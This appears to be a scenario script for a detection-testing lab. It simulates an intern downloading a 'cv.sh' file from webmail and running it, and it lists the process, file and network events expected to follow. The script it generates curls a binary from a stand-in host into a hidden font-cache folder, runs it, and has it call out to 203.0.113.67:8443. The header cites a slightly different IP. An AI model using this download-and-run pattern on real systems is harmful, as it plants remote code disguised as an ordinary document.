# Plain and frequent: the web mail of a person's own, a script, a terminal. The browser is the real Firefox.
title="Script downloaded from a private web mail with Firefox, run with bash"
what="Firefox ESR, the real one, saves cv.sh from webmail.example.com into ~/Downloads; minutes later the intern runs bash cv.sh in a terminal. The script fetches a program from 203.0.113.66 into a hidden folder and starts it."
host=ws3.example.org user=intern daemons="cron"

setup() {
  mkdir -p "$base/out/www/m"
  printf 'd=$HOME/.local/share/.fonts-cache\nmkdir -p $d\ncurl -s -o $d/fc http://drop.example.net/m/fc\nchmod 755 $d/fc\n$d/fc 203.0.113.67 8443\n' > "$base/out/www/cv.sh"
  cc -O1 -o "$base/out/www/m/fc" "$lab/lib/stand-ins/beacon.c"
}
act() {
  small_talk 2
  display_up
  firefox_as intern http://webmail.example.com/cv.sh
  wait_file /home/intern/Downloads/cv.sh 60
  sleep 3
  desktop_close
  console_as intern <<'L'
cd Downloads
head -2 cv.sh
bash cv.sh
L
  small_talk 1
}
truth() {
  exec_step browser '/usr/lib/firefox-esr/firefox-esr' 'the browser starts'
  file_step save 'firefox-esr .*/Downloads/cv.*sh' 'it saves the script'
  exec_step execute 'bash cv.sh' 'the script is run'
  exec_step second 'fc 203.0.113.67' 'what it fetched is started'
  net_step beacon 'fc 203.0.113.67:8443' 'and calls out'
}
